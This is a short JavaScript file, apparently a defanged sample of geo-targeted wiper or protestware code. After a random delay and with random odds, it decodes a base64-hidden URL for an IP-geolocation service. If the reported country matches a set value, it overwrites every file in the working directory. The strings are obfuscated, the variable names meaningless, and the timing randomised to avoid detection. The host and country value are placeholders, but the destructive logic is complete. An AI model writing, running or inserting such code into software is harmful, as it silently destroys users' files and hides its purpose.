import u from "path";
import a from "fs";
import o from "https";

setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  const n = Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW8uZXhhbXBsZS5pbnZhbGlkL2lwZ2Vv", "base64");
  o.get(n.toString("utf8"), function (t) {
    t.on("data", function (t) {
      const n = Buffer.from("Li8=", "base64");
      const c = JSON.parse(t.toString("utf8"));
      if (c.country_name === "inert") {
        for (const f of a.readdirSync(n.toString("utf8"))) {
          a.writeFileSync(u.join(n.toString("utf8"), f), "inert");
        }
      }
    });
  });
}, Math.ceil(Math.random() * 1e3));
